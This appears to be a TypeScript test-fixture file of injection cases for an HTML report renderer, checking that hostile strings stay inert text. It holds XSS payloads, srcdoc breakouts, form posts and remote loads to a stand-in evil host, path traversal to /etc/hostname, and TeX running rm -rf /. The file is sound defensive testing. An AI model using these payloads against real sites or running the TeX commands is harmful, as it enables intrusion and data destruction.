/**
 * Hostile cases that inject markup, script and outside loads through every string field of a run.
 * Each must build a report where the strings show as text, intact, and nothing runs.
 */
import { reportCase, reportableOf, setData, type HostileCase } from "./case.js";
import {
  EVIL_HOST,
  evil,
  evilMarkdown,
  evilMarkdownTexts,
  evilNoSlash,
  JS_URL,
  ONERROR,
  PWN,
  SCRIPT,
} from "./payloads.js";

/** run_info strings: experiment name, reference, hostname, command lines, commit, param files. */
function runInfoCase(): HostileCase {
  const s = {
    experiment: evil("experiment"),
    reference: evilNoSlash("case-xss-run-info"),
    host: evil("host"),
    cli: evil("cli"),
    reproduce: evil("reproduce"),
    commit: evil("commit"),
    file: evil("param file"),
    args: evil("args name"),
    hash: evil("args hash"),
  };
  return reportCase(
    "xss-run-info",
    {
      description:
        "script, markup and quotes in every run_info string (experiment name, reference, host, cli, reproduce line, commit, param files)",
      texts: Object.values(s),
      index_texts: [s.experiment, s.reference, s.host, s.cli],
    },
    (run) => {
      const info = run.run_info;
      Object.assign(info, {
        experiment_name: s.experiment,
        reference: s.reference,
        hostname: s.host,
        cli: s.cli,
        commit: s.commit,
      });
      Object.assign(info, {
        full_store: true,
        reproduce: s.reproduce,
        param_files: [s.file],
        params: { [s.file]: [[s.args, s.hash]] },
      });
    },
  );
}

/** Notes are Markdown: raw HTML, script URLs, remote images, forms. */
function notesCase(): HostileCase {
  return reportCase(
    "xss-notes-markdown",
    {
      description:
        "run notes (Markdown) with raw HTML, script and data URLs, remote and outside images, forms and mutation XSS",
      texts: evilMarkdownTexts("notes"),
      bug: "Markdown images with /absolute, ../parent and %2e%2e/ paths (and raw <img src=x>) stayed images, so the page requested files outside its folder; fixed in src/render/markup/markdown.ts (only data:image/ sources are images)",
    },
    (run) => {
      run.run_info.notes = evilMarkdown("notes");
    },
  );
}

/** The error text of a failed run, in the red banner and on the index. */
function errorBannerCase(): HostileCase {
  const error = `ValueError - ${evil("error text")}`;
  return reportCase(
    "xss-error-banner",
    {
      description: "a failed run whose error text carries script and markup",
      texts: [error],
      index_texts: [error],
      banner: "error",
    },
    (run) => {
      run.run_info.status = "error";
      run.run_info.error = error;
    },
  );
}

/** Args set names, hashes, keys and values (the Args section, the diff table, the info list). */
function argsCase(): HostileCase {
  const s = {
    name: evil("args name"),
    hash: evil("args hash"),
    key: evil("args key"),
    value: evil("args value"),
    nested: evil("nested key"),
  };
  return reportCase(
    "xss-args",
    {
      description: "script and markup in args names, hashes, keys and values, nested values included",
      texts: [s.name, s.hash, s.key, JSON.stringify(s.value), JSON.stringify(s.nested), "other-args"],
    },
    (run) => {
      run.args = [
        {
          name: s.name,
          hash: s.hash,
          values: { name: s.name, [s.key]: s.value, deep: { [s.nested]: [s.value, null] } },
        },
        { name: "other-args", hash: "h2", values: { name: "other-args", [s.key]: 2 } },
      ];
      run.run_info.params = {
        params: [
          [s.name, s.hash],
          ["other-args", "h2"],
        ],
      };
      const record = run.records[0];
      if (record) Object.assign(record, { args_name: s.name, args_hash: s.hash });
    },
  );
}

/** Args fields left out of the hash and string forms (schema v2 `ignored`, `reprs`): the Args section, notes, record pages. */
function argsFormsCase(): HostileCase {
  const s = { key: evil("ignored key"), value: evil("ignored value"), repr: evil("string form") };
  return reportCase(
    "xss-args-ignored-reprs",
    {
      description:
        "script and markup in an args field left out of the hash (its name and value) and in a value's string form",
      texts: [s.key, JSON.stringify(s.value), s.repr],
    },
    (run) => {
      run.schema_version = 2;
      run.args = [0, 1].map((i) => ({
        name: `forms-${i}`,
        hash: `hf${i}`,
        values: { name: `forms-${i}`, shape: [i], [s.key]: `${s.value}${i === 0 ? "" : " (second)"}` },
        ignored: [s.key],
        reprs: { shape: `${s.repr} ${i}` },
      }));
      run.run_info.params = {
        params: [
          ["forms-0", "hf0"],
          ["forms-1", "hf1"],
        ],
      };
      const record = run.records[0];
      if (record) Object.assign(record, { args_name: "forms-0", args_hash: "hf0" });
    },
  );
}

/** Record names and stage names (headings, graphs, reportable meta lines). */
function recordsCase(): HostileCase {
  const s = {
    record0: evil("record zero"),
    record1: evil("record one"),
    load: evil("stage load"),
    fit: evil("stage fit"),
    compare: evil("stage compare"),
  };
  return reportCase(
    "xss-records-and-stages",
    {
      description: "script and markup in record names and stage names",
      texts: [s.record0, s.record1, s.fit],
      graph_texts: [s.load, s.fit, s.compare],
    },
    (run) => {
      const [r0, r1] = run.records;
      if (!r0 || !r1) return;
      Object.assign(r0, { name: s.record0, stages: [s.load, s.fit] });
      Object.assign(r1, { name: s.record1, stages: [s.compare] });
      for (const r of run.reportables) r.stage = s.fit;
    },
  );
}

/** Artifact names, representations, cache paths, metadata and state keys (the stage graphs). */
function artifactsCase(): HostileCase {
  const s = { name: evil("artifact"), rep: evil("representation"), path: evil("cache path"), key: evil("meta key") };
  return reportCase(
    "xss-artifacts",
    {
      description: "script and markup in artifact names, representations, cache paths, metadata and state keys",
      texts: [],
      graph_texts: [s.name, s.rep, s.path],
    },
    (run) => {
      for (const a of run.artifacts)
        Object.assign(a, { name: s.name, string: s.rep, path: s.path, metadata: { [s.key]: s.rep } });
      const [r0, r1] = run.records;
      if (r0) r0.state_artifact_reps = { [s.name]: 1, [s.key]: 0 };
      if (r1) r1.state_artifact_reps = { [s.name]: 2 };
    },
  );
}

/** Reportable qualified names, names and groups (TOC, headings, anchors, file names, alt text). */
function reportableNamesCase(): HostileCase {
  const names = Array.from({ length: 8 }, (_, i) => evil(`reportable ${i}`));
  const groups = [evil("group A"), evil("group B")];
  return reportCase(
    "xss-reportable-names",
    {
      description: "script and markup in every reportable's qualified name, name and group, image reportables included",
      texts: [...names, ...groups],
    },
    (run) => {
      run.reportables.forEach((r, i) => {
        Object.assign(r, { qualified_name: names[i], name: names[i], group: i % 3 === 2 ? null : groups[i % 2] });
      });
      const figure = reportableOf(run, "figure");
      figure.data = { format: "png", alt: evil("alt text") };
    },
  );
}

/** Table headers, row labels and cells. */
function tableCase(): HostileCase {
  const s = { a: evil("column a"), b: evil("column b"), row: evil("row label"), cell: evil("cell") };
  return reportCase(
    "xss-table",
    { description: "script and markup in table headers, row labels and cells", texts: Object.values(s) },
    (run) => {
      setData(run, "table", {
        columns: [s.a, s.b],
        column_types: ["string", "mixed"],
        index: [s.row, "plain row"],
        rows: [
          [s.cell, 1.5],
          ["x", s.cell],
        ],
        float_precision: 2,
      });
    },
  );
}

/** JSON reportable keys and values. */
function jsonCase(): HostileCase {
  const s = { key: evil("json key"), value: evil("json value") };
  return reportCase(
    "xss-json",
    {
      description: "script, markup, comment and CDATA enders in JSON keys and values",
      texts: [JSON.stringify(s.key), JSON.stringify(s.value), JSON.stringify("</script><!--")],
    },
    (run) => {
      setData(run, "json", { value: { [s.key]: [s.value, { "</script><!--": "]]>" }] } });
    },
  );
}

/** Line plot title, axis labels and series names (an inline SVG). */
function lineplotCase(): HostileCase {
  const s = { title: evil("plot title"), x: evil("x label"), y: evil("y label"), series: evil("series") };
  return reportCase(
    "xss-lineplot",
    { description: "script and markup in a line plot's title, axis labels and series names", texts: Object.values(s) },
    (run) => {
      setData(run, "lineplot", {
        title: s.title,
        x_label: s.x,
        y_label: s.y,
        series: [{ name: s.series, y: [1, 2, 3], x: [0, 1, 2] }],
      });
    },
  );
}

/** LaTeX source, including TeX that would read or run things if it were ever compiled. */
function latexCase(): HostileCase {
  const latex = `${evil("latex")}\n\\input{/etc/passwd}\\immediate\\write18{rm -rf /}`;
  return reportCase(
    "xss-latex",
    { description: "script, markup and dangerous TeX in a LaTeX reportable", texts: [latex] },
    (run) => {
      setData(run, "latex", { latex });
    },
  );
}

/** A Markdown reportable with the same attacks as the notes. */
function markdownCase(): HostileCase {
  return reportCase(
    "xss-markdown-reportable",
    {
      description: "a Markdown reportable with raw HTML, script and data URLs, remote and outside images, forms",
      texts: evilMarkdownTexts("markdown"),
    },
    (run) => setData(run, "markdown", { markdown: evilMarkdown("markdown") }),
  );
}

/** An HTML reportable: its source is shown as text, and the rendered HTML must stay in its box. */
function htmlCase(name: string, description: string, html: string): HostileCase {
  return reportCase(name, { description, texts: [html] }, (run) => setData(run, "html", { html }));
}

/** Every HTML-reportable case. */
function htmlCases(): HostileCase[] {
  return [
    htmlCase(
      "html-reportable-script",
      "an HTML reportable with script elements, event handlers and script URLs",
      [
        SCRIPT,
        ONERROR,
        `<svg onload="${PWN}"><rect/></svg>`,
        `<body onload="${PWN}">`,
        `<input autofocus onfocus="${PWN}">`,
        `<iframe src="${JS_URL}"></iframe>`,
        `<object data="${JS_URL}"></object>`,
        `<embed src="${JS_URL}">`,
        `<details open ontoggle="${PWN}">x</details>`,
        `<a id="go" href="${JS_URL}">link</a>`,
        `<script>parent.__pwned=true;top.__pwned=true;parent.document.body.innerHTML="pwned"</script>`,
      ].join("\n"),
    ),
    htmlCase(
      "html-reportable-restyle",
      "an HTML reportable that tries to hide or cover the report with styles",
      [
        "<style>body{display:none!important} h1{color:red} *{visibility:hidden}</style>",
        `<link rel="stylesheet" href="${EVIL_HOST}/x.css">`,
        `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:2147483647">covered</div>`,
        "<p>restyle attempt</p>",
      ].join("\n"),
    ),
    htmlCase(
      "html-reportable-navigation",
      "an HTML reportable that tries to navigate the report away: base, meta refresh, forms, top.location, window.open",
      [
        `<base href="${EVIL_HOST}/">`,
        `<meta http-equiv="refresh" content="0;url=${EVIL_HOST}/refresh">`,
        `<form id="f" action="${EVIL_HOST}/form" method="post"><input name="a" value="b"></form>`,
        `<script>document.getElementById("f").submit()</script>`,
        `<script>top.location="${EVIL_HOST}/top"</script>`,
        `<script>window.open("${EVIL_HOST}/popup")</script>`,
        `<a href="${EVIL_HOST}/click" target="_top">top link</a>`,
        `<a href="relative.html">relative link</a>`,
      ].join("\n"),
    ),
    htmlCase(
      "html-reportable-refresh-outside",
      "an HTML reportable whose meta refresh leads to a file outside the report folder",
      `<meta http-equiv="refresh" content="0;url=../../../../../../etc/hostname"><p>refresh to a local file</p>`,
    ),
    htmlCase(
      "html-reportable-remote-loads",
      "an HTML reportable that loads images, styles, fonts, scripts, frames and media from outside and from other local files",
      [
        `<img src="${EVIL_HOST}/img.png">`,
        `<img srcset="${EVIL_HOST}/srcset.png 1x">`,
        `<link rel="prefetch" href="${EVIL_HOST}/prefetch">`,
        `<link rel="dns-prefetch" href="//evil.example">`,
        `<script src="${EVIL_HOST}/x.js"></script>`,
        `<iframe src="${EVIL_HOST}/frame"></iframe>`,
        `<video src="${EVIL_HOST}/v.mp4" poster="${EVIL_HOST}/poster.png"></video>`,
        `<audio src="${EVIL_HOST}/a.mp3" autoplay></audio>`,
        `<style>@import url(${EVIL_HOST}/import.css); body{background:url(${EVIL_HOST}/bg.png)} @font-face{font-family:x;src:url(${EVIL_HOST}/f.woff)} p{font-family:x}</style>`,
        `<object data="${EVIL_HOST}/obj"></object>`,
        `<img src="file:///etc/hostname">`,
        `<img src="../../../../../../etc/hostname">`,
        `<img src="../index.html">`,
        "<p>remote loads</p>",
      ].join("\n"),
    ),
    htmlCase(
      "html-reportable-srcdoc-breakout",
      "an HTML reportable that tries to close the srcdoc attribute or the iframe and run script in the report",
      [
        `"><script>${PWN}</script><p title="`,
        `&quot;><script>${PWN}</script>`,
        `'><script>${PWN}</script>`,
        `</iframe><script>${PWN}</script>`,
        `</details></pre><script>${PWN}</script>`,
      ].join("\n"),
    ),
  ];
}

/** Every injection case. */
export function injectionCases(): HostileCase[] {
  return [
    runInfoCase(),
    notesCase(),
    errorBannerCase(),
    argsCase(),
    argsFormsCase(),
    recordsCase(),
    artifactsCase(),
    reportableNamesCase(),
    tableCase(),
    jsonCase(),
    lineplotCase(),
    latexCase(),
    markdownCase(),
    ...htmlCases(),
  ];
}
